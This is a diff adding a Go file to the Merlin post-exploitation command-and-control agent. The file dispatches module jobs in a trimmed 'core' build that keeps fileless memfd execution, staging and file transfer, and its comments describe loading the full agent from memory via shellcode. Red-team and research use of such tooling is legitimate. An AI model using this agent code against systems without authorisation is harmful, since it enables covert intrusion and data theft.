@@ -0,0 +1,53 @@
+//go:build core
+// +build core
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/commands"
+)
+
+// module executes a module job and returns its result. sent is true when the module sent its own job, such as a
+// file transfer, and there is no result to return. The core build only includes the modules that move files and
+// load code; the others, and the packages they depend on, are left out to keep the agent small. The full module set
+// is loaded later by running a full agent from memory with the shellcode or memfd jobs
+func module(job jobs.Job) (result jobs.Results, sent bool) {
+	switch strings.ToLower(job.Payload.(jobs.Command).Command) {
+	case "memfd":
+		result = commands.Memfd(job.Payload.(jobs.Command))
+	case "staging":
+		return stagingModule(job)
+	case "transfer":
+		var structured commands.Structured
+		result, structured = commands.Transfer(job.Payload.(jobs.Command))
+		sendStructured(job, structured)
+	default:
+		result.Stderr = fmt.Sprintf("the %s module is not included in this core build of the agent, run a full agent with the shellcode or memfd jobs to use it", job.Payload.(jobs.Command).Command)
+	}
+	return
+}